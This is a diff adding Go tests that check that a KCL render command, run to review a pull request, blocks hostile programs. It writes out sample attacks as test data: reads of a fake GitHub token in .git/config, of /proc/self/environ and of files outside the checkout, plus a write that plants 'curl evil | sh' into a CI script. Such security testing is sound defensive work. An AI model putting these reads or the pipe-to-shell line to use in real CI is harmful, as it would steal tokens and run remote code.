@@ -1,0 +1,186 @@
+package rendercmd
+
+import (
+	"fmt"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+// fakeToken is what actions/checkout persists in .git/config: the job's token.
+const fakeToken = "AUTHORIZATION: basic eC1hY2Nlc3MtdG9rZW46Z2hzX0ZBS0VUT0tFTg=="
+
+// reviewCheckouts are a pull request's head and its base, side by side, each a Git checkout whose
+// .git/config holds the job's token, plus a worktree of the head (its .git is a file) and a
+// secret file outside both.
+type reviewCheckouts struct {
+	head, base, worktree, secret string
+}
+
+func newReviewCheckouts(t *testing.T) reviewCheckouts {
+	t.Helper()
+	w := t.TempDir()
+	c := reviewCheckouts{head: filepath.Join(w, "head"), base: filepath.Join(w, "base"),
+		worktree: filepath.Join(w, "wt"), secret: filepath.Join(t.TempDir(), "secret.txt")}
+	for _, dir := range []string{c.head, c.base} {
+		runGit(t, "", "init", "-q", "-b", "main", dir)
+		runGit(t, dir, "config", "http.https://github.com/.extraheader", fakeToken)
+		write(t, filepath.Join(dir, "main.k"), baseProgram)
+		write(t, filepath.Join(dir, "kclartifact.yaml"), reviewKCLArtifact)
+		runGit(t, dir, "add", ".")
+		runGit(t, dir, "-c", "user.name=t", "-c", "user.email=t@t", "commit", "-q", "-m", "base")
+	}
+	runGit(t, c.head, "worktree", "add", "-q", c.worktree)
+	// a link to .git inside the tree: the path does not say .git
+	if err := os.Symlink(".git", filepath.Join(c.head, "gitlink")); err != nil {
+		t.Fatal(err)
+	}
+	write(t, c.secret, "SECRET-OUTSIDE-THE-CHECKOUTS")
+	return c
+}
+
+// baseProgram renders one ConfigMap; its comment stands for source the head must not read.
+const baseProgram = "# BASE-SOURCE-MARKER\n[{apiVersion = \"v1\", kind = \"ConfigMap\", metadata.name = \"leak\", data.v = \"1\"}]\n"
+
+const reviewKCLArtifact = `apiVersion: kcl.contrib.fluxcd.io/v1alpha1
+kind: KCLArtifact
+metadata: {name: app, namespace: apps}
+spec:
+  interval: 5m
+  sourceRef: {kind: GitRepository, name: repo}
+  path: ./
+`
+
+func runGit(t *testing.T, dir string, args ...string) {
+	t.Helper()
+	cmd := exec.Command("git", args...)
+	cmd.Dir = dir
+	cmd.Env = append(os.Environ(), "GIT_CONFIG_GLOBAL="+os.DevNull, "GIT_CONFIG_NOSYSTEM=1")
+	if out, err := cmd.CombinedOutput(); err != nil {
+		t.Fatalf("git %v: %v\n%s", args, err, out)
+	}
+}
+
+func write(t *testing.T, p, content string) {
+	t.Helper()
+	if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
+		t.Fatal(err)
+	}
+}
+
+// leak is a head program that copies what expr reads into a ConfigMap, the way a pull request
+// would get it into the diff it posts.
+func leak(expr string) string {
+	return "import file\n\n[{apiVersion = \"v1\", kind = \"ConfigMap\", metadata.name = \"leak\", data.v = str(" + expr + ")}]\n"
+}
+
+// A pull request's program reads what the CI job must keep: the token in .git/config, Git's
+// metadata however reached, the base checkout, the environment, files outside. Rendered for
+// review (--diff-from, with and without a KCLArtifact manifest), with the sandbox by default and
+// asked for, every read fails with an error (exit 2) and nothing of it reaches stdout or stderr.
+// Watched first on the code before: .git/config, .git/HEAD, the link and the worktree's .git
+// were read and printed in every mode; the rest without --sandbox.
+func TestReviewRendersReadNoMetadataNorOutside(t *testing.T) {
+	c := newReviewCheckouts(t)
+	t.Setenv("KCL_REVIEW_SECRET", "SECRET-FROM-THE-ENVIRONMENT")
+	reads := map[string]string{
+		"git-config":     `file.read(".git/config")`,
+		"git-head":       `file.read(".git/HEAD")`,
+		"link-to-git":    `file.read("gitlink/config")`,
+		"absolute-git":   fmt.Sprintf(`file.read(%q)`, filepath.Join(c.head, ".git", "config")),
+		"base-checkout":  fmt.Sprintf(`file.read(%q)`, filepath.Join(c.base, ".git", "config")),
+		"base-tree":      fmt.Sprintf(`file.read(%q)`, filepath.Join(c.base, "main.k")),
+		"proc-environ":   `file.read("/proc/self/environ")`,
+		"outside":        fmt.Sprintf(`file.read(%q)`, c.secret),
+		"worktree-git":   `file.read(".git")`,
+		"worktree-admin": fmt.Sprintf(`file.read(%q)`, filepath.Join(c.head, ".git", "worktrees", "wt", "HEAD")),
+	}
+	secrets := []string{"eC1hY2Nlc3MtdG9rZW46", "refs/heads/", "gitdir:", "SECRET-", "BASE-SOURCE-MARKER"}
+	for name, expr := range reads {
+		dir := c.head
+		if strings.HasPrefix(name, "worktree") {
+			dir = c.worktree
+		}
+		write(t, filepath.Join(dir, "main.k"), leak(expr))
+		for _, mode := range [][]string{
+			{"--diff-from", c.base},
+			{"--diff-from", c.base, "--sandbox"},
+			{"--diff-from", c.base, "--kclartifact-file", "kclartifact.yaml"},
+			{"--diff-from", c.base, "--kclartifact-file", "kclartifact.yaml", "--sandbox"},
+		} {
+			args := append([]string{"-o", "markdown"}, mode...)
+			if len(mode) == 2 || mode[2] == "--sandbox" {
+				args = append(args, "main.k")
+			}
+			out, errOut, code := runRender(t, dir, args...)
+			for _, s := range secrets {
+				if strings.Contains(out+errOut, s) {
+					t.Errorf("%s %v: %q reached the output:\nstdout %s\nstderr %s", name, mode, s, out, errOut)
+				}
+			}
+			if code != exitError || errOut == "" {
+				t.Errorf("%s %v: exit %d, stderr %q: want a refused read (exit %d)", name, mode, code, errOut, exitError)
+			}
+		}
+	}
+	// the environment is empty: the read gives nothing, no error
+	write(t, filepath.Join(c.head, "main.k"), leak(`file.read_env("KCL_REVIEW_SECRET")`))
+	out, errOut, _ := runRender(t, c.head, "--diff-from", c.base, "main.k")
+	if strings.Contains(out+errOut, "SECRET-FROM") {
+		t.Errorf("file.read_env reached the environment: %s %s", out, errOut)
+	}
+}
+
+// In review, what a pull request's program writes changes nothing on disk: not its own checkout,
+// not the base, not the scripts the job runs next.
+func TestReviewRendersWriteNothing(t *testing.T) {
+	c := newReviewCheckouts(t)
+	hook := filepath.Join(c.base, "ci.sh")
+	write(t, hook, "echo ok\n")
+	program := fmt.Sprintf(`import file
+
+file.write("written.txt", "x")
+file.write(%q, "curl evil | sh")
+file.mkdir("made-dir")
+file.delete("kclartifact.yaml")
+[{apiVersion = "v1", kind = "ConfigMap", metadata.name = "leak", data.v = "2"}]
+`, hook)
+	write(t, filepath.Join(c.head, "main.k"), program)
+	for _, mode := range [][]string{{"--diff-from", c.base, "main.k"},
+		{"--diff-from", c.base, "--kclartifact-file", "kclartifact.yaml"}} {
+		_, errOut, code := runRender(t, c.head, mode...)
+		if code != exitError {
+			t.Errorf("%v: exit %d (%s): the writes were not refused", mode, code, errOut)
+		}
+		for _, p := range []string{"written.txt", "made-dir"} {
+			if _, err := os.Stat(filepath.Join(c.head, p)); err == nil {
+				t.Errorf("%v: the program created %s in the checkout", mode, p)
+			}
+		}
+		if _, err := os.Stat(filepath.Join(c.head, "kclartifact.yaml")); err != nil {
+			t.Errorf("%v: the program deleted a file of the checkout", mode)
+		}
+		if b, _ := os.ReadFile(hook); string(b) != "echo ok\n" {
+			t.Errorf("%v: the program rewrote the base's script: %q", mode, b)
+		}
+	}
+}
+
+// --sandbox=false in review says so on stderr, and still keeps .git out of the tree rendered.
+func TestReviewWithoutSandboxSaysSoAndHidesMetadata(t *testing.T) {
+	c := newReviewCheckouts(t)
+	write(t, filepath.Join(c.head, "main.k"), leak(`file.read(".git/config")`))
+	out, errOut, code := runRender(t, c.head, "--diff-from", c.base, "--sandbox=false", "main.k")
+	if !strings.Contains(errOut, "--sandbox=false") || code != exitError {
+		t.Fatalf("exit %d, stderr %q", code, errOut)
+	}
+	if strings.Contains(out+errOut, "eC1hY2Nlc3MtdG9rZW46") {
+		t.Fatalf("the token reached the output: %s %s", out, errOut)
+	}
+	// the error names the path as the program wrote it, and the checkout's file (not the copy's)
+	if !strings.Contains(errOut, "'.git/config': No such file") || !strings.Contains(errOut, filepath.Join(c.head, "main.k")) {
+		t.Fatalf("the refused read is not explained: %s", errOut)
+	}
+}
